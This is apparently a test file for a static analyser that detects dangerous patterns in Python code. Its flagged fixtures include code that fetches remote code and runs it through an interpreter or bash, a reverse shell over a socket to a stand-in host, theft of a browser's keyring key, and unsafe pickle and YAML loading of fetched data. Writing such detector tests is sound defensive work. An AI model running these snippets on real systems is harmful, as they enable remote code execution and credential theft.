import { describe, expect, it } from 'vitest';
import { pythonCode } from '../../../utils/inspect/python/python-code.ts';
import { label, toldDecoded, toldFetched } from '../../../utils/inspect/python/python-value.ts';
import { label as shared } from '../../../utils/inspect/javascript/value.ts';
import { seenBy } from '../sightings-of.ts';

const kindsIn = (files: string | Readonly<Record<string, string>>): string[] =>
  seenBy(pythonCode, typeof files === 'string' ? { 'a.py': files } : files).map((seen) => seen.split(' ')[0]!);

const seen: readonly (readonly [string, string, string | Readonly<Record<string, string>>])[] = [
  ['an answer given to an interpreter as its input', 'runs-fetched-text', `import subprocess, sys\nfrom urllib import request\ncode = request.urlopen('https://seed.example/a').read()\nsubprocess.run([sys.executable, '-'], input=code)\n`],
  ['an answer written to a shell that was started', 'runs-fetched-text', `import subprocess, requests\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(requests.get('https://seed.example/a').content)\n`],
  ['a socket in place of input and output', 'runs-fetched-text', `import os, socket, pty\ns = socket.create_connection(('logs.example', 1))\nfor fd in range(3):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n`],
  ['the key of a browser out of the key ring, sent', 'sends-files', `import keyring, requests\nrequests.post('https://a.example', json={'k': keyring.get_password('Chrome Safe Storage', 'Chrome')})\n`],
  ['an address put together in a class, read as YAML', 'unsafe-deserialising', `import yaml, requests\nfrom urllib.parse import urljoin\nclass Client:\n    base = 'https://data.example/'\n    def get(self, path):\n        return requests.get(urljoin(self.base, path))\n    def days(self):\n        return yaml.load(self.get('v1').text, Loader=yaml.Loader)\nClient().days()\n`],
  ['an address of the settings, unpickled', 'unsafe-deserialising', `import os, pickle, requests\nurl = os.environ['SOURCE']\npickle.loads(requests.get(url).content)\n`],
  ['several addresses by one function, unpickled', 'unsafe-deserialising', { 'a.py': `import requests\ndef load(url):\n    return requests.get(url).content\n`, 'b.py': `import pickle\nfrom a import load\nload('https://a.example/1')\npickle.loads(load('https://b.example/2'))\n` }],
  ['a decoder in another file', 'runs-decoded-text', { 'a.py': `import base64\ndef unpack(text):\n    return base64.b64decode(text)\n`, 'b.py': `from a import unpack\nunpack('aW1wb3J0IG9z')\nexec(unpack('cHJpbnQoMSk='))\n` }],
  ['a program behind an unknown interpreter', 'starts-fetched-file', `import subprocess, requests\ndef go(program):\n    open('/tmp/run-a', 'wb').write(requests.get('https://a.example/x').content)\n    subprocess.call([program, '/tmp/run-a'])\ngo(input())\n`],
];

const quiet: readonly (readonly [string, string | Readonly<Record<string, string>>])[] = [
  ['an address that only a caller tells, unpickled', `import pickle\nfrom urllib.request import urlopen\ndef load(url):\n    return pickle.load(urlopen(url))\n`],
  ['a header of visitors that is decoded far from where names are loaded', { 'auth.py': `import base64\nfrom util import text\ndef user(request):\n    return text(base64.b64decode(request.headers['authorization']))\n`, 'util.py': `def text(value):\n    return value\n`, 'names.py': `from util import text\ndef find(name):\n    return __import__(text(name))\n` }],
  ['a decoded value among the names that code is given', `import base64\ndef run(code, given):\n    exec(code, {'user': base64.b64decode('YWJjZGVm')})\n`],
  ['answers among the values of an own template', `import requests\nfrom flask import render_template_string\nrender_template_string('<p>{{ rows }}</p>', rows=requests.get('https://a.example/rows').json())\n`],
  ['a socket in place of another', `import os, socket\na, b = socket.socket(), socket.socket()\nnumber = a.fileno()\nos.dup2(b.fileno(), number)\n`],
  ['a repository that is cloned by its address', `import subprocess, os, requests\ndef clone(kind, url):\n    path = os.path.abspath(url)\n    open(path, 'wb').write(requests.get(url).content)\n    subprocess.check_output([kind, 'clone', url])\n`],
  ['folders in a list for Python', `import os, site\nclass Paths:\n    def __init__(self):\n        self.file = os.path.join(site.getsitepackages()[0], 'easy.pth')\n    def save(self, paths):\n        with open(self.file, 'wt') as f:\n            f.write('\\n'.join(paths) + '\\n')\nPaths().save([])\n`],
  ['a key file that is written', `import os\nwith open(os.path.expanduser('~/.ssh/known_hosts'), 'a') as f:\n    f.write('x')\n`],
  ['a password of its own out of the key ring', `import keyring, requests\nrequests.post('https://a.example', auth=('me', keyring.get_password('own-service', 'me')))\n`],
];

describe('python-code: where what is run comes from', () => {
  it.each(seen)('sees %s', (_, kind, files) => {
    expect(kindsIn(files)).toContain(kind);
  });

  it.each(quiet)('is quiet about %s', (_, files) => {
    expect(kindsIn(files).filter((kind) => kind !== 'starts-process')).toEqual([]);
  });

  it('has a bit of its own for everything that is known of scripts and of Python', () => {
    const own = Object.entries(label).filter(([name]) => !(name in shared)).map(([, bit]) => bit);
    const bits = [...Object.values(shared), ...own, label.fetched ^ toldFetched, label.decoded ^ toldDecoded];
    expect(new Set(bits).size).toBe(bits.length);
  });
});
